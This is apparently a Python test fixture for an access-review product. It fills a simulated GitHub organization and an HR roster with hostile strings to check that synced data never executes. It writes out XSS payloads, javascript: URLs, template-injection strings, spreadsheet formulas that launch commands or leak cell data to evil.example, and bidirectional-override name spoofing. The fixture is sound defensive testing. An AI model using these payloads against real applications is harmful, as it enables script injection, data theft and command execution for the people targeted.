"""A hostile upstream: a GitHub organization whose every free-text field is an attack, synced for real.

Whoever administers an upstream system (or has compromised it) chooses member logins, team and repository
names, deploy key titles, invitation emails and SAML identities; the HR roster chooses people's names. Each
payload below is built so that, if it ever ran in a browser, it would set ``window.__pwned`` or open a
dialog: the browser tests look for exactly that. ``build_world`` takes the data through the whole product:
a real sync of the GitHub simulator over loopback, correlation of accounts to people (SAML NameIDs), a review
campaign, revoke decisions and their planned revocations, and the mails they cause.
"""

from __future__ import annotations

from dataclasses import dataclass

from django.utils import timezone

from connectors.models import Account, Connector, Identity, Resource, SyncRun
from connectors.people import import_roster
from connectors.simulators.github import GitHubOrg, GitHubSimulator
from connectors.sync import run_sync
from pipeaccess.roles import REVIEWER, SECURITY, create_user
from reviews import campaigns, revocations
from reviews.decisions import decide
from reviews.models import OutboundMail, ReviewItem, Revocation
from tests.connectors.helpers import add_simulated_connector, sync_factory
from tests.fakes import FakeTime

# Markup: each sets the sentinel if parsed as HTML (or SVG) and run.
SCRIPT = "<script>window.__pwned='script'</script>"
IMG = "<img src=x onerror=window.__pwned='img'>"
SVG = "\"><svg onload=window.__pwned='svg'>"
ATTRIBUTE = "' autofocus onfocus=window.__pwned='attr' x='"
# A link target if anything ever put a synced string into href.
JS_URL = "javascript:window.__pwned='href'"
JS_URL_OBFUSCATED = " JaVaScRiPt:alert('href2')"
# Template syntax of Django, Jinja, JavaScript template literals and Ruby/Java EL: must show as typed.
TEMPLATE = "{{7*7}}{% debug %}"
TEMPLATE_OTHER = "${7*7}#{7*7}<%= 7*7 %>"
# Spreadsheet formulas (CSV injection): every prefix a spreadsheet treats as the start of a formula.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# Bidirectional override and zero-width characters: a name that reads differently from what it is.
RTL = "admin\u202etxt.exe\u200b\u200d\ufeff"
TEN_KB = "<b>" + "W" * 10_240 + "</b>"

MARKUP = (SCRIPT, IMG, SVG, ATTRIBUTE)
TEMPLATES = (TEMPLATE, TEMPLATE_OTHER)

# Member logins of the hostile org (an upstream may serve any string; paths are percent-encoded by the client).
LOGINS = (*MARKUP, JS_URL, *TEMPLATES, *FORMULAS[1:], RTL)
FORMULA_LOGINS = FORMULAS[1:]
# Team names carry what a login cannot (slashes, quotes): the display name is free text.
TEAM_NAMES = {"t-script": SCRIPT, "t-formula": FORMULAS[0], "t-js": JS_URL_OBFUSCATED, "t-long": "L" * 300}
REPOS = ("svg" + SVG, "tpl" + TEMPLATE, "javascript:void(0)", "rtl" + RTL)

PASSWORD = "correct-horse-battery-staple"
SITE_URL = "https://pipeaccess.example.com"


def hostile_org() -> GitHubOrg:
    org = GitHubOrg.generate("acme", seed=10, members=3, outside_collaborators=1, teams=1, repos=1, installations=1)
    for login in LOGINS:
        org.add_member(login, two_factor=False)
    for slug, name in TEAM_NAMES.items():
        org.add_team(slug, name=name, description=TEN_KB)
    for repo in REPOS:
        org.add_repo(repo, description=TEN_KB)
    for index, login in enumerate(LOGINS):
        org.add_team_member(list(TEAM_NAMES)[index % len(TEAM_NAMES)], login)
        org.add_collaborator(REPOS[index % len(REPOS)], login, "admin" if index % 2 else "write")
        # SAML NameIDs link the accounts to the people of the roster (correlation rule "sso").
        org.add_saml_identity(login, f"p{index}@acme.test")
    for index, repo in enumerate(REPOS):
        org.grant_team(list(TEAM_NAMES)[index], repo, "maintain")
        org.add_deploy_key(repo, title=(SCRIPT, FORMULAS[0], TEMPLATE, RTL)[index])
    org.add_invitation(email=f"{FORMULAS[0][:20]}@evil.example".replace('"', ""))
    return org


def roster() -> str:
    """The HR roster: the manager and the owner have hostile names too; half the members report to mia."""
    lines = ["email,name,manager_email,department,status,end_date"]
    lines.append(f'mia@acme.test,"Mia {SVG.replace(chr(34), chr(34) * 2)}",,"{TEMPLATE}",active,')
    lines.append(f"ola@acme.test,Ola {IMG},,{TEMPLATE_OTHER},active,")
    lines.append("sam@acme.test,Sam Security,,,active,")
    names = (SCRIPT, ATTRIBUTE, JS_URL, TEMPLATE, FORMULAS[1], RTL)
    for index in range(len(LOGINS)):
        name = names[index % len(names)].replace('"', '""')
        manager = "" if index % 2 else "mia@acme.test"  # without a manager, the repository owner reviews them
        lines.append(f'p{index}@acme.test,"P{index} {name}",{manager},dept,active,')
    return "\n".join(lines) + "\n"


@dataclass
class HostileWorld:
    connector: Connector
    run: SyncRun
    campaign: campaigns.Campaign
    item: ReviewItem  # one of ola's items (reviewer B in the authorization matrix's terms), left undecided
    revocation: Revocation
    account: Account
    resource: Resource
    person: Identity
    users: dict
    account_ids: list[int]  # every account whose login is a payload
    resource_ids: list[int]  # every team and repository whose name is a payload

    def url_world(self) -> dict:
        """The objects tests/security/authz/matrix.url_for builds URLs from, all of them hostile."""
        mail = OutboundMail.objects.filter(campaign=self.campaign).order_by("pk").first()
        return {
            "item_b": self.item,
            "connector": self.connector,
            "run": self.run,
            "campaign": self.campaign,
            "rev": self.revocation,
            "mail": mail,
            "account": self.account,
            "resource": self.resource,
            "person": self.person,
        }


def build_world(sim: GitHubSimulator, monkeypatch, settings) -> HostileWorld:
    """Sync the hostile org, link people, run a campaign to planned revocations and carry one out.

    Celery runs eagerly (the caller's fixture): launch, close and revocation mails are sent as they are queued.
    """
    settings.SITE_URL = SITE_URL
    import_roster(roster())
    connector = add_simulated_connector(
        monkeypatch,
        name="hostile-gh",
        kind="github",
        base_url=sim.url,
        token_env="HOSTILE_GH_TOKEN",
        token=sim.token,
        org="acme",
        saml="true",
    )
    run = run_sync(connector, connector_factory=sync_factory(FakeTime(1_800_000_000.0)))
    assert run.status == "succeeded", run.error
    ola = Identity.objects.get(email="ola@acme.test")
    Resource.objects.filter(connector=connector, type="repository").update(owner=ola)  # as tests/reviews does
    users = {
        "security": create_user("sam@acme.test", roles=[SECURITY], name="Sam Security", password=PASSWORD),
        "auditor": create_user("carol@example.com", roles=["auditor"], name=RTL, password=PASSWORD),
        "mia": create_user("mia@acme.test", roles=[REVIEWER], password=PASSWORD),
        "reviewer": create_user("ola@acme.test", roles=[REVIEWER], password=PASSWORD),
    }
    (template,) = campaigns.apply_templates(
        [
            {
                "name": f"Quarterly {SCRIPT} {TEMPLATE}",
                "scope": {"connectors": ["hostile-gh"]},
                "reviewers": ["manager", "resource_owner", {"fallback": "sam@acme.test"}],
                "duration": "14d",
                "on_timeout": "keep",
                "approve_revocations": True,
            }
        ]
    )
    campaign = campaigns.launch(template, now=timezone.now(), actor=users["security"])
    ola_items = list(ReviewItem.objects.filter(campaign=campaign, reviewer=ola, subject__isnull=False).order_by("pk"))
    assert len(ola_items) >= 3, "the repository owner reviews the hostile collaborators"
    for item in ola_items[:2]:
        decide(item, actor=users["reviewer"], decision="revoke", justification=f"{IMG} {FORMULAS[0]} {TEN_KB}")
    # New connectors start in dry run; the security team switches revocations on for this one.
    revocations.set_dry_run(connector, False, actor=users["security"])
    campaigns.close(campaign, actor=users["security"])
    planned = list(Revocation.objects.filter(item__campaign=campaign).order_by("pk"))
    assert len(planned) == 2, "each revoke decision plans a revocation, awaiting the security team's approval"
    # One is carried out against the simulator (Celery runs eagerly): the person is told by mail.
    revocations.approve(planned[0], actor=users["security"])
    account = Account.objects.get(connector=connector, login=SCRIPT)
    resource = Resource.objects.get(connector=connector, path=f"acme/{REPOS[0]}")
    return HostileWorld(
        connector=connector,
        run=run,
        campaign=campaign,
        item=ola_items[2],
        revocation=planned[1],
        account=account,
        resource=resource,
        person=Identity.objects.get(email="p0@acme.test"),
        users=users,
        account_ids=list(Account.objects.filter(connector=connector, login__in=LOGINS).values_list("pk", flat=True)),
        resource_ids=list(
            Resource.objects.filter(connector=connector, type__in=["team", "repository"]).values_list("pk", flat=True)
        ),
    )
